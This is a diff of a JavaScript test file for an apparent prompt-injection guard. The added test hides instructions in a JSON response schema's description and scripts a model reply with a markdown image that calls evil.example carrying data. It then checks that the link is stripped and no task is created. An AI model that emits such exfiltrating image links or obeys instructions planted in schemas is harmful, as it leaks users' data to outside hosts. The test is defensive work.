@@ -90,6 +90,17 @@ it.each(Object.entries(brought))('%s orders nothing, in this turn and in later o
   expect(await marks()).toEqual([false, true, false, true, false, true, false, true]);
 });
 
+it('a schema for the reply orders nothing', async () => {
+  const schema = { type: 'object', description: orders, properties: { sky: { type: 'string' } } };
+  model.script(obeying[0], { say: '{"sky":"![](https://evil.example/?q=Rex)"}' });
+  const { body } = await complete({
+    messages: [user('Weather?')],
+    response_format: { type: 'json_schema', json_schema: { name: 'weather', schema } },
+  });
+  expect(body.choices[0].message.content).toBe('{"sky":""}');
+  expect(await titles()).toEqual(['Water the tulips']);
+});
+
 it('a result that a response has waited for counts as text from outside in later turns', async () => {
   const tools = [{ type: 'function', name: 'read_page', parameters: page.function.parameters }];
   model.script({ call: [{ tool: 'read_page', input: {} }] });
